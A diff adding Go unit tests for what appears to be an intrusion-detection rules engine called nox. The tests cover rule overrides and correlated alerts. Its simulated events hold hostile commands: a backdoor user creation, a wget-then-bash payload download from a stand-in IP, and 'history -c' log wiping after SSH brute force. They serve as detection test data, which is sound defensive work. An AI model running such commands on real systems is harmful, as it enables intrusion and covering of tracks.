@@ -0,0 +1,234 @@
+package rules
+
+import (
+	"nox/internal/enrich"
+	"nox/internal/model"
+	"slices"
+	"testing"
+	"time"
+)
+
+func TestEngineRulesMatchAndAlertsCarryEnrichment(t *testing.T) {
+	engine := NewEngine(nil, NewStateManager(), []RuleDefinition{{
+		Name:      "Privileged Account Creates User On Critical Asset",
+		Severity:  "HIGH",
+		EventType: "Process_Executed",
+		Conditions: []Condition{
+			{Field: "metadata.process_name", Operator: "equals", Value: "useradd"},
+			{Field: "metadata.asset_criticality", Operator: "equals", Value: "CRITICAL"},
+		},
+	}})
+
+	event := model.Event{
+		Timestamp: time.Date(2026, time.June, 19, 12, 0, 0, 0, time.UTC),
+		EventType: "Process_Executed",
+		Source:    "dc-1",
+		Metadata: map[string]string{
+			"process_name":      "useradd",
+			"command":           "useradd backdoor",
+			"asset_criticality": "CRITICAL",
+			"asset_owner":       "identity-team",
+			"user_department":   "it",
+			"host":              "dc-1",
+		},
+	}
+
+	alerts := engine.EvaluateEvent(event)
+	if len(alerts) != 1 {
+		t.Fatalf("got %d alerts, want 1", len(alerts))
+	}
+	for field, want := range map[string]string{"asset_owner": "identity-team", "user_department": "it", "host": "dc-1"} {
+		if got := alerts[0].Metadata[field]; got != want {
+			t.Fatalf("got alert %s=%q, want %q", field, got, want)
+		}
+	}
+
+	event.Metadata["asset_criticality"] = "LOW"
+	if alerts := engine.EvaluateEvent(event); len(alerts) != 0 {
+		t.Fatalf("got %d alerts for a low criticality asset, want 0", len(alerts))
+	}
+}
+
+func TestEngineAppliesRuleMetadataAndOverrides(t *testing.T) {
+	disabled, enabled := false, true
+	nmap := RuleDefinition{
+		ID:        "suspicious-nmap-scan",
+		Name:      "Suspicious Nmap Scan",
+		Version:   3,
+		Severity:  "MEDIUM",
+		EventType: "Process_Executed",
+		Conditions: []Condition{
+			{Field: "metadata.process_name", Operator: "equals", Value: "nmap"},
+		},
+	}
+	netcat := RuleDefinition{
+		Name:      "Netcat",
+		Severity:  "HIGH",
+		EventType: "Process_Executed",
+		Enabled:   &disabled,
+		Conditions: []Condition{
+			{Field: "metadata.process_name", Operator: "equals", Value: "nmap"},
+		},
+	}
+
+	tests := []struct {
+		name         string
+		overrides    []RuleOverride
+		wantRules    []string
+		wantSeverity string
+	}{
+		{name: "defaults", wantRules: []string{"Suspicious Nmap Scan"}, wantSeverity: "MEDIUM"},
+		{
+			name:         "severity override",
+			overrides:    []RuleOverride{{ID: "suspicious-nmap-scan", Severity: "CRITICAL"}},
+			wantRules:    []string{"Suspicious Nmap Scan"},
+			wantSeverity: "CRITICAL",
+		},
+		{
+			name:      "disable and enable",
+			overrides: []RuleOverride{{ID: "suspicious-nmap-scan", Enabled: &disabled}, {ID: "netcat", Enabled: &enabled}},
+			wantRules: []string{"Netcat"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			engine := NewEngine(nil, NewStateManager(), []RuleDefinition{nmap, netcat}, WithRuleOverrides(tt.overrides))
+			alerts := engine.EvaluateEvent(model.Event{
+				Timestamp: time.Date(2026, time.June, 19, 12, 0, 0, 0, time.UTC),
+				EventType: "Process_Executed",
+				Source:    "127.0.0.1",
+				Metadata:  map[string]string{"process_name": "nmap"},
+			})
+
+			var got []string
+			for _, alert := range alerts {
+				got = append(got, alert.RuleName)
+				if alert.RuleName == "Suspicious Nmap Scan" {
+					if alert.RuleID != "suspicious-nmap-scan" || alert.RuleVersion != 3 {
+						t.Fatalf("got rule %s v%d, want suspicious-nmap-scan v3", alert.RuleID, alert.RuleVersion)
+					}
+					if alert.Severity != tt.wantSeverity {
+						t.Fatalf("got severity %s, want %s", alert.Severity, tt.wantSeverity)
+					}
+				}
+				if alert.RuleName == "Netcat" && alert.RuleID != "netcat" {
+					t.Fatalf("got derived id %q, want netcat", alert.RuleID)
+				}
+			}
+			if !slices.Equal(got, tt.wantRules) {
+				t.Fatalf("got alerts from %v, want %v", got, tt.wantRules)
+			}
+		})
+	}
+}
+
+func TestBuiltinRulesHaveMetadata(t *testing.T) {
+	ids := make(map[string]bool)
+	for _, meta := range BuiltinRules() {
+		if !ValidRuleID(meta.ID) || ids[meta.ID] {
+			t.Fatalf("got invalid or duplicate id %q", meta.ID)
+		}
+		ids[meta.ID] = true
+		if meta.Name == "" || meta.Description == "" || meta.Author != builtinAuthor || !meta.Enabled {
+			t.Fatalf("got incomplete metadata %+v", meta)
+		}
+		if !slices.Contains(Severities, meta.Severity) {
+			t.Fatalf("got severity %q for %s, want one of %v", meta.Severity, meta.ID, Severities)
+		}
+	}
+}
+
+func TestRuleID(t *testing.T) {
+	tests := map[string]string{
+		"Suspicious Nmap Scan":                        "suspicious-nmap-scan",
+		"Interactive Root Shell via Sudo (Alternate)": "interactive-root-shell-via-sudo-alternate",
+		"  chmod 777!":                                "chmod-777",
+	}
+	for name, want := range tests {
+		if got := RuleID(name); got != want || !ValidRuleID(got) {
+			t.Fatalf("RuleID(%q): got %q, want %q", name, got, want)
+		}
+	}
+}
+
+func TestCorrelationAlertCarriesChainAndAncestry(t *testing.T) {
+	processes := enrich.NewProcessTree(100)
+	engine := NewEngine(nil, NewStateManager(), nil, WithProcessHistory(processes))
+	start := time.Date(2026, time.March, 2, 9, 0, 0, 0, time.UTC)
+
+	var alerts []model.Alert
+	for i, proc := range []struct{ pid, ppid, name, command string }{
+		{"812", "1", "sshd", "/usr/sbin/sshd -D"},
+		{"900", "812", "bash", "-bash"},
+		{"901", "900", "wget", "wget -O /tmp/payload.sh http://203.0.113.7/payload.sh"},
+		{"902", "900", "bash", "bash /tmp/payload.sh"},
+	} {
+		event := model.Event{
+			Timestamp: start.Add(time.Duration(i) * time.Second),
+			EventType: "Process_Executed",
+			Source:    "localhost",
+			Metadata:  map[string]string{"pid": proc.pid, "ppid": proc.ppid, "process_name": proc.name, "command": proc.command},
+			Raw:       "execsnoop line " + proc.pid,
+		}
+		processes.Enrich(&event)
+		alerts = engine.EvaluateEvent(event)
+	}
+
+	i := slices.IndexFunc(alerts, func(a model.Alert) bool { return a.RuleName == "CorrelatedDownloadAndExecute" })
+	if i < 0 {
+		t.Fatalf("got alerts %v, want the download and execute chain", alerts)
+	}
+	alert := alerts[i]
+
+	var raw []string
+	for _, event := range alert.Events {
+		raw = append(raw, event.Raw)
+	}
+	if want := []string{"execsnoop line 901", "execsnoop line 902"}; !slices.Equal(raw, want) {
+		t.Fatalf("got events %q, want %q", raw, want)
+	}
+
+	var pids []string
+	for _, proc := range alert.Ancestry {
+		pids = append(pids, proc.PID)
+	}
+	if want := []string{"902", "900", "812"}; !slices.Equal(pids, want) {
+		t.Fatalf("got ancestry %v, want %v", pids, want)
+	}
+}
+
+func TestBruteForceFollowedByEvasionAlerts(t *testing.T) {
+	engine := NewEngine(nil, NewStateManager(), nil)
+	start := time.Date(2026, time.March, 2, 9, 0, 0, 0, time.UTC)
+	at := func(s int) time.Time { return start.Add(time.Duration(s) * time.Second) }
+
+	for i := range 5 {
+		engine.EvaluateEvent(model.Event{
+			Timestamp: at(i),
+			EventType: "SSHD_Failed_Password",
+			Source:    "203.0.113.7",
+			Metadata:  map[string]string{"user": "root", "host": "web-1"},
+		})
+	}
+	engine.EvaluateEvent(model.Event{
+		Timestamp: at(10),
+		EventType: "SSHD_Accepted_Password",
+		Source:    "203.0.113.7",
+		Metadata:  map[string]string{"user": "root", "sshd_pid": "4242", "host": "web-1"},
+	})
+	alerts := engine.EvaluateEvent(model.Event{
+		Timestamp: at(20),
+		EventType: "Process_Executed",
+		Source:    "127.0.0.1",
+		Metadata:  map[string]string{"pid": "5000", "ppid": "4242", "process_name": "bash", "command": "history -c"},
+	})
+
+	i := slices.IndexFunc(alerts, func(a model.Alert) bool { return a.RuleName == "CorrelatedBruteForceAndEvasion" })
+	if i < 0 {
+		t.Fatalf("got alerts %v, want the brute force and evasion chain", alerts)
+	}
+	if alerts[i].Source != "203.0.113.7" || alerts[i].Metadata["linked_sshd_pid"] != "4242" {
+		t.Fatalf("got alert %+v, want it linked to the login of 203.0.113.7", alerts[i])
+	}
+}